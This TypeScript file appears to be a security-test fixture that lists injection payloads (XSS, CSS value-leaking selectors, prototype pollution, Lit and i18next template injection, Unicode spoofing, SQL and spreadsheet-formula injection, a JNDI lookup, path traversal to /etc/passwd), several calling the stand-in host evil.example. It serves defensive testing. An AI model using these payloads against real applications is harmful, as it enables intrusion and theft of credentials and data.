import { address, attribute, markup, RUN, script, template } from './running.js'

/** How a payload would begin to run, if a page let it: by this the positive control knows how to be careless. */
export type Sink = 'markup' | 'attribute' | 'address' | 'script' | 'template'

/** A text that somebody puts where a name is expected. */
export interface Payload {
  readonly kind: string
  readonly text: string
  /** Where it would run; `undefined`: it runs nowhere, and deceives, breaks or confuses. */
  readonly sink?: Sink
}

/** Nothing of this host may ever be asked. */
const ELSEWHERE = 'evil.example'

function of(kind: string, sink: Sink | undefined, texts: readonly string[]): readonly Payload[] {
  return texts.map(text => ({ kind, text, ...(sink && { sink }) }))
}

/** Addresses that lead somewhere without running anything here, or that a browser refuses to run. */
const leading = [
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `vbscript:${RUN}`,
  `blob:https://${ELSEWHERE}/1`,
  `filesystem:https://${ELSEWHERE}/temporary/x`,
  `file:///etc/passwd`,
  `//${ELSEWHERE}/x`,
  `\\\\${ELSEWHERE}\\x`,
  `https:${ELSEWHERE}`,
  `https:/\\${ELSEWHERE}`,
  `https:///${ELSEWHERE}`,
  `http://${ELSEWHERE}/x`,
  `https://nordhost.example@${ELSEWHERE}/`,
  `https://nordhost.example%40${ELSEWHERE}/`,
  `https://${ELSEWHERE}/?a="onmouseover=${RUN}`,
  `https://${ELSEWHERE}/'><img src=x>`,
  `https://${ELSEWHERE}/#javascript:${RUN}`,
  `https://xn--nrdhost-q1a.example/`,
  `https://n\u043erdhost.example/`,
  `https://nordhost.example\u202e/moc.live`,
  `intent://${ELSEWHERE}#Intent;scheme=https;end`,
  `view-source:https://${ELSEWHERE}/`,
  `ws://${ELSEWHERE}/x`,
  `ftp://${ELSEWHERE}/x`,
  `mailto:x@${ELSEWHERE}?bcc=y`,
]

const asking = [
  `<img src="https://${ELSEWHERE}/pixel.gif">`,
  `<link rel=stylesheet href="//${ELSEWHERE}/x.css">`,
  `<link rel=prefetch href="//${ELSEWHERE}/x">`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/">`,
  `<base href="//${ELSEWHERE}/">`,
  `<form action="//${ELSEWHERE}/"><input name=password><button>OK</button></form>`,
  `<script src="//${ELSEWHERE}/x.js"></script>`,
  `<style>@import "//${ELSEWHERE}/x.css";</style>`,
  `<object data="//${ELSEWHERE}/x"></object>`,
  `<portal src="//${ELSEWHERE}/"></portal>`,
  `<video poster="//${ELSEWHERE}/x"></video>`,
  `<svg><use href="//${ELSEWHERE}/x.svg#a"/></svg>`,
]

const css = [
  `expression(${RUN})`,
  `x;background:url(//${ELSEWHERE}/x)`,
  `}*{background:url("https://${ELSEWHERE}/x")}`,
  `";}input[type=password][value^=a]{background:url(//${ELSEWHERE}/a)}`,
  `@import url(//${ELSEWHERE}/x);`,
  `\\75rl(//${ELSEWHERE}/x)`,
  `var(--x);position:fixed;inset:0`,
]

const lit = [
  '<!--?lit$123456789$-->',
  '?lit$123456789$',
  '<?lit$123456789$>',
  'lit$123456789$',
  '$lit$',
  'class$lit$="x"',
  '.innerHTML=${x}',
  '@click=${fire}',
  '{{lit-0}}',
  '<!--?--><!--lit-part-->',
  '<!--lit-node 0-->',
  '</template><template>',
]

const i18n = [
  '{{number}}',
  '{{count}}',
  '{{-number}}',
  '{{provider}}{{time}}',
  '{{ __proto__ }}',
  '{{constructor.name}}',
  '$t(form.send)',
  '$t(constructor)',
  '$t(sent.number, {"number": "$t(form.send)"})',
  '{{number, uppercase}}',
  '%{number}',
  '{0}',
  '{number, plural, other {x}}',
]

const pollution = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'constructor.prototype.polluted',
  '__proto__[polluted]=1',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
]

const deceiving = [
  'safe\u202egnp.exe',
  '\u202dleft\u202c\u202eright\u202c',
  '\u2066isolate\u2069\u2067\u2068',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u200fRTL\u200e',
  'שלום עולם',
  'مرحبا 123',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  'Z̸̛͎̗a̷͍͑l̵̟̀g̶̣̈o̸̺͝',
  'a\u00adb\u00adc',
  '𝕱𝖔𝖗𝖒',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\u{e0001}\u{e0041}\u{e007f}',
  'ＳＣＲＩＰＴ　＜',
  '\u2028line\u2029paragraph',
  'ﷺ﷽',
]

const breaking = [
  'null\u0000byte',
  '\u0000<img src=/none onerror=fire()>',
  'bell\u0007esc\u001b[31mred\u001b[0m',
  'tab\there\rreturn\nline\u0085next\u000bvertical\u000cfeed',
  '\ufffd\ufffe\uffff',
  '<',
  '&lt;b&gt;&amp;amp;&#60;',
  '"\'`',
  '\\u003cscript\\u003e',
  '%3Cscript%3Efire()%3C/script%3E',
  '../../../etc/passwd%00.png',
  "' OR '1'='1' --",
  '=cmd|"/C calc"!A0',
  '{"a":[1,2,{"b":null}]}',
  '[object Object]',
  'undefined',
  'NaN',
  '-1e309',
  ' ',
  '${jndi:ldap://evil.example/x}',
]

const markdown = [
  `[x](javascript:${RUN})`,
  `![x](https://${ELSEWHERE}/x.png)`,
  `![x"onerror="${RUN}](x)`,
  `<javascript:${RUN}>`,
  `[x]: https://${ELSEWHERE} "y"`,
  '```html\n<script>fire()</script>\n```',
  '# *a* **b** ~~c~~ | d | e',
  `> <details open ontoggle=${RUN}>`,
]

const long = [
  '<b>'.repeat(4_000),
  'a'.repeat(20_000),
  'https://a.example/ '.repeat(900),
  '\u0301'.repeat(3_000),
  '🂡'.repeat(5_000),
  '(((('.repeat(3_000),
]

/** All payloads, by kind. */
export const payloads: readonly Payload[] = [
  ...of('markup', 'markup', markup),
  ...of('attribute', 'attribute', attribute),
  ...of('address that runs', 'address', address),
  ...of('script', 'script', script),
  ...of('template literal', 'template', template),
  ...of('script element', undefined, [
    `<script>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<SCRIPT type=module>${RUN}</SCRIPT>`,
    `</script><script>${RUN}</script>`,
    `<svg><script>${RUN}</script></svg>`,
  ]),
  ...of('address that leads', undefined, leading),
  ...of('request', undefined, asking),
  ...of('css', undefined, css),
  ...of('lit', undefined, lit),
  ...of('i18next', undefined, i18n),
  ...of('prototype', undefined, pollution),
  ...of('unicode', undefined, deceiving),
  ...of('signs', undefined, breaking),
  ...of('markdown', undefined, markdown),
  ...of('long', undefined, long),
]
